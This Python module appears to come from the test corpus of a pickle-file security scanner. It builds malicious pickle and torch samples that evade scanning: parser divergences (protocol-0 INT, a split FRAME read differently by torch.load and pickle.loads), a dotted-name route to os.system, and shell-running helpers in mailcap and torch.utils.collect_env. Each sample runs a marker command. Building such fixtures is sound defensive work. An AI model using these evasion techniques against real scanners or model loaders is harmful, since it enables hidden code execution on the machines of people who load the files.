"""Pickle streams that different readers read differently, and primitives behind names.

Each sample here was a way past an earlier openward: a protocol-0 argument
openward parsed differently from CPython, a frame boundary that ``torch.load``
reads differently from ``pickle.loads``, a code-execution primitive reached
through a dotted name, helpers in the standard library and torch that run
shell commands.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from openward._samples import PickleAsm

__all__ = ["malicious", "split_frame_stream"]


def split_frame_stream(module: str, name: str, argument: str) -> bytes:
    """``module.name(argument)`` that only a file reader without ``peek()`` sees.

    The first FRAME ends two bytes into a BINUNICODE length. ``pickle.loads``
    reads the length across the boundary (a huge one: the stream is broken);
    the C unpickler reading from an ``io.BytesIO`` (``torch.load`` of a zip)
    drops the frame's tail and reads the length afresh after the frame.
    """
    inner = b"X\xff\xff"
    data = b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner
    data += struct.pack("<I", 2) + b"ok" + b"0"  # the string the file reader sees, then POP
    call = PickleAsm().unicode(module).unicode(name).raw(b"\x93").unicode(argument).tuple1()
    return data + call.reduce().stop().bytes()


def _torch_zip(data_pkl: bytes, prefix: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        z.writestr(f"{prefix}/version", b"3\n")
        z.writestr(f"{prefix}/.data/serialization_id", b"0123456789")
    return buf.getvalue()


def malicious(add: Callable[..., None], touch: Callable[[str], str]) -> None:
    tag = "pickle-int-decimal"
    add(
        "parsing/int_decimal.pkl",
        b"I18\n0" + b"cposix\nsystem\n(V" + touch(tag).encode() + b"\ntR.",
        tag,
        "protocol-0 INT '18' (decimal to CPython, an octal error to a strict reader) "
        "before os.system",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "pickle-frame-split-torch"
    add(
        "parsing/frame_split.pt",
        _torch_zip(split_frame_stream("posix", "system", touch(tag))),
        tag,
        "torch zip whose data.pkl splits an argument across a FRAME: torch.load "
        "(io.BytesIO) runs os.system, pickle.loads sees a broken stream",
        "pickle-dangerous-global",
        loader="torch",
        marker=tag,
    )
    tag = "pickle-frame-split-bytesio"
    add(
        "parsing/frame_split.pkl",
        split_frame_stream("posix", "system", touch(tag)),
        tag,
        "a split FRAME read through io.BytesIO (pickle.load of downloaded bytes)",
        "pickle-loader-divergence",
        "high",
        loader="pickle-bytesio",
        marker=tag,
    )
    tag = "pickle-dotted-qualname"
    add(
        "parsing/dotted_qualname.pkl",
        PickleAsm()
        .proto(4)
        .unicode("posixpath")
        .unicode("os.system")
        .raw(b"\x93")
        .unicode(touch(tag))
        .tuple1()
        .reduce()
        .stop()
        .bytes(),
        tag,
        "protocol 4 resolves posixpath + 'os.system' attribute by attribute: os.system",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "pickle-mailcap-findmatch"
    # findmatch({"application/x-ow": [{"view": "true", "test": CMD}]}, "application/x-ow"),
    # written by hand: mailcap is gone from Python 3.13.
    findmatch = (
        b"cmailcap\nfindmatch\n((dVapplication/x-ow\n(l(dVview\nVtrue\nsVtest\nV"
        + touch(tag).encode()
        + b"\nsasVapplication/x-ow\ntR."
    )
    add(
        "parsing/mailcap_findmatch.pkl",
        findmatch,
        tag,
        "mailcap.findmatch runs an entry's 'test' command with os.system",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
    tag = "pickle-torch-collect-env-run"
    add(
        "parsing/collect_env_run.pkl",
        PickleAsm().proto(2).call("torch.utils.collect_env", "run", touch(tag)).stop().bytes(),
        tag,
        "torch.utils.collect_env.run runs a shell command (subprocess, shell=True)",
        "pickle-dangerous-global",
        loader="pickle",
        marker=tag,
    )
